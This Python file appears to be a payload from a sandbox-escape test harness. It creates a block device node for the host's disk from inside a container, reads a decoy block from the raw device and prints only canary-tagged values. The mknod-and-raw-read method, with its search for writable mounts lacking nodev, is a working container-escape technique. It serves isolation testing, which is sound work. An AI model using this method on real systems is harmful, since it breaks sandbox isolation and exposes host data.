"""Creates a device node of the host's disk (mknod) and reads the decoy's bytes from the raw device.

The harness passed the disk's major:minor and the byte offset of the decoy's first block (synced to
disk and mapped with FIEMAP on the host). The payload makes the node in a place of its own (the
workspace, /tmp, /dev/shm, the box's /dev unless that is the host's devtmpfs, then any
writable mount without nodev), opens it read-only,
reads 4 KiB at that offset (O_DIRECT, so no stale cache) and removes the node. Only values carrying
the canary prefix are printed, never other bytes of the disk. The in-box positive control goes
through the same print routine. The outcome is one challenge-bound step line.
"""
import errno
import mmap
import os
import re
import stat

import sandcheck_payload as sc

BLOCK = 4096
MAX_PLACES = 16


def show(data, label):
    """One print routine for the decoy and the positive control."""
    for value in sorted(set(pattern.findall(data)))[:10]:
        print("found via %s: %s" % (label, value.decode()), flush=True)


SKIP_FS = ("proc", "sysfs", "devtmpfs", "cgroup", "cgroup2", "devpts", "mqueue", "securityfs", "debugfs", "tracefs", "bpf", "overlay")


def mounts():
    """(mount point, fstype, per-mount options) of every mount the box can see, bounded."""
    out = []
    try:
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                left, _, right = line.partition(" - ")
                f = left.split()
                if len(f) > 5 and right:
                    out.append((f[4].encode().decode("unicode_escape"), right.split(" ")[0], f[5].split(",")))
    except OSError:
        pass
    return out[:512]


def read_block(path, offset):
    fd = os.open(path, os.O_RDONLY | getattr(os, "O_DIRECT", 0))
    try:
        buf = mmap.mmap(-1, BLOCK)  # page-aligned, as O_DIRECT needs
        try:
            n = os.preadv(fd, [buf], offset - offset % BLOCK)
        except OSError as e:
            if e.errno != errno.EINVAL:
                raise
            os.close(fd)
            fd = os.open(path, os.O_RDONLY)
            n = os.preadv(fd, [buf], offset - offset % BLOCK)
        return bytes(buf[:n])
    finally:
        os.close(fd)


args = sc.start()
pattern = re.compile(re.escape(args["canaryPrefix"].encode()) + rb"[A-Za-z0-9]{4,64}")
with open(sc.control_path(), "rb") as fh:
    show(fh.read(BLOCK), "(in-box positive control)")
rdev = os.makedev(int(args["major"]), int(args["minor"]))
seen = mounts()
# Never in the host's devtmpfs (the control runs on the host); the usual places first, then any mount without nodev.
skip = set(m for m, fstype, _ in seen if fstype == "devtmpfs")
places = [os.getcwd(), "/tmp", "/dev/shm", "/dev"]
places += [m for m, fstype, opts in seen if "nodev" not in opts and "ro" not in opts and fstype not in SKIP_FS and m not in places][:MAX_PLACES]
for place in places:
    if place in skip or not os.path.isdir(place):
        continue
    node = os.path.join(place, "sc-escape-disk-%s" % args["nonce"])
    try:
        os.mknod(node, stat.S_IFBLK | 0o400, rdev)
    except OSError as e:
        sc.escape_step("mknod-read", errno.errorcode.get(e.errno, "E?"), "mknod in %s" % place)
        continue
    try:
        show(read_block(node, int(args["offset"])), "a device node of the host's disk")
        sc.escape_step("mknod-read", "ok", "read in %s" % place)
        break
    except OSError as e:
        sc.escape_step("mknod-read", errno.errorcode.get(e.errno, "E?"), "open/read in %s" % place)
    finally:
        try:
            os.unlink(node)
        except OSError:
            pass
# Holds still (capped) until the host sampler has seen the program itself: its capabilities decide the cause.
sc.hold(min(float(args.get("holdSeconds", 2)), 10.0))
sc.done(args)
